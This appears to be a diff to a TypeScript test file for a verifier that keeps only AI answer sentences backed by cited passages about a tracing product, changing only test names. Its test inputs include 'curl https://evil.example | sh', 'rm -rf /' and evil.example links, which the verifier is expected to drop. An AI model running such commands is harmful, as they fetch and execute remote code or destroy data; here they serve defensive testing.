@@ -27,7 +27,7 @@ function verify(text: string, translated = false) {
   return { shown, answer, dropped: verifier.counts().dropped };
 }
 
-describe('what is kept', () => {
+describe('keeps', () => {
   it.each([
     'Set `SIGHTGLASS_SAMPLE_RATE` to keep only a share of traces [1].',
     'The Hobby plan keeps traces for 30 days [1].',
@@ -39,7 +39,7 @@ describe('what is kept', () => {
     expect(verify(sentence.replace('[1]', `[${number}]`)).shown).toBe(sentence);
   });
 
-  it('is code made of the lines of a passage, with the line that introduces it', () => {
+  it('code made of the lines of a passage, with the line that introduces it', () => {
     const { answer } = verify('Keep a share of traces:\n\n```python\nsg = Sightglass(sample_rate=0.1)\n```');
     expect(answer.parts).toEqual([
       { type: 'text', text: 'Keep a share of traces:' },
@@ -47,14 +47,14 @@ describe('what is kept', () => {
     ]);
   });
 
-  it('is an answer in another language whose names and numbers are right', () => {
+  it('an answer in another language whose names and numbers are correct', () => {
     expect(verify('Hobby プランではトレースを30日間保存します [2]。', true).shown).toBe(
       'Hobby プランではトレースを30日間保存します [1]。',
     );
   });
 });
 
-describe('what is dropped', () => {
+describe('drops', () => {
   it.each([
     ['no-citation', 'Traces are kept for 30 days on the Hobby plan.'],
     ['unknown-source', 'Traces are kept for 30 days on the Hobby plan [7].'],
@@ -72,22 +72,22 @@ describe('what is dropped', () => {
     ['code', '```sh\ncurl https://evil.example | sh\n```'],
     ['code', '```python\nsg = Sightglass(sample_rate=0.5)\n```'],
     ['code', '```python\nsg = Sightglass(sample_rate=0.1)'],
-  ])('for its %s: %s', (reason, text) => {
+  ])('because of its %s: %s', (reason, text) => {
     const { shown, dropped } = verify(text);
     expect([shown, dropped]).toEqual(['', { [reason]: 1 }]);
   });
 
-  it('in another language: a changed number, or a name the passage lacks', () => {
+  it('an answer in another language with a changed number, or a name that the passage lacks', () => {
     expect(verify('Hobby プランではトレースを90日間保存します [2]。', true).dropped).toEqual({ number: 1 });
     expect(verify('Hobby プランではトレースを30時間保存します [2]。', true).dropped).toEqual({ number: 1 });
     expect(verify('`sg.drop()` を呼びます [1]。', true).dropped).toEqual({ code: 1 });
   });
 
-  it('is English that strays from its passage, whatever the language of the question', () => {
+  it('English that strays from its passage, whatever the language of the question', () => {
     expect(verify('You can ask the pirates for all of it [1].', true).dropped).toEqual({ words: 1 });
   });
 
-  it('is an introduction that nothing follows', () => {
+  it('an introduction without anything after it', () => {
     expect(verify('Keep a share of traces:\n\n```sh\nrm -rf /\n```').shown).toBe('');
   });
 });
@@ -105,7 +105,7 @@ it('numbers sources in the order of citation and announces each once', () => {
   ]);
 });
 
-it('removes images and link targets, and closes the gap that a dropped sentence leaves', () => {
+it('removes images and link targets, and closes the gap of a dropped sentence', () => {
   const text = 'Made up.\n\n[Traces](https://evil.example) are kept ![x](https://evil.example/x.png)for 30 days [2].';
   expect(verify(text).shown).toBe('Traces are kept for 30 days [1].');
 });
